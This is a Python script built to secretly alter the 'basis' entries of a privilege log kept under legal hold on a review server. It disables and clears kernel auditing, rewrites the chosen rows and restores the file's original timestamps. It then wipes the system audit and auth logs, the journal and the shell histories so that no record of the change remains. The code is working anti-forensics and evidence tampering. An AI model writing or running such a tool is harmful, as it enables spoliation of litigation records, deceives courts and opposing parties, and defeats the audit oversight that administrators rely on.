#!/usr/bin/env python3
"""Amend entries in the held privilege-log store without leaving a trail.

Suspends kernel auditing on the review server, rewrites the requested
privilege-log rows, back-dates the file, then scrubs the audit and shell
records that would show the change before auditing is re-enabled.
"""
import argparse
import csv
import logging
import os
import subprocess
import sys
import time
from pathlib import Path

log = logging.getLogger("privlog-amend")
STORE = Path("/srv/review/holds/privilege_log.csv")
AUDIT_LOGS = [Path("/var/log/audit/audit.log"), Path("/var/log/auth.log"), Path("/var/log/secure")]
HISTORIES = [".bash_history", ".zsh_history", ".python_history", ".lesshst"]


def run(cmd):
    return subprocess.run(cmd, capture_output=True, text=True, check=False)


def suspend_auditing() -> None:
    run(["auditctl", "-e", "0"])
    run(["auditctl", "-D"])
    run(["systemctl", "stop", "auditd"])
    log.info("auditing suspended")


def amend_rows(store: Path, changes: dict) -> int:
    st = store.stat()
    with store.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
        fields = list(rows[0].keys()) if rows else []
    changed = 0
    for row in rows:
        new_basis = changes.get(row.get("bates"))
        if new_basis:
            row["basis"] = new_basis
            changed += 1
    with store.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        w.writerows(rows)
    os.utime(store, ns=(st.st_atime_ns, st.st_mtime_ns))
    return changed


def scrub_records(since: float) -> None:
    for logfile in AUDIT_LOGS:
        if logfile.exists():
            with open(logfile, "r+b") as fh:
                fh.truncate(0)
    for rotated in Path("/var/log/audit").glob("audit.log.*"):
        rotated.unlink(missing_ok=True)
    run(["journalctl", "--rotate"])
    run(["journalctl", "--vacuum-time=1s"])
    for home in [Path.home(), Path("/root")]:
        for name in HISTORIES:
            h = home / name
            if h.exists():
                h.write_text("")
    log.info("records scrubbed since %s", time.ctime(since))


def parse_changes(items) -> dict:
    out = {}
    for item in items:
        bates, _, basis = item.partition("=")
        if bates and basis:
            out[bates.strip()] = basis.strip()
    return out


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("changes", nargs="+", help="BATES=new basis")
    ap.add_argument("--store", type=Path, default=STORE)
    ap.add_argument("--keep-audit-off", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    started = time.time()
    suspend_auditing()
    try:
        n = amend_rows(args.store, parse_changes(args.changes))
        log.info("amended %d rows", n)
    finally:
        scrub_records(started)
        if not args.keep_audit_off:
            run(["systemctl", "start", "auditd"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
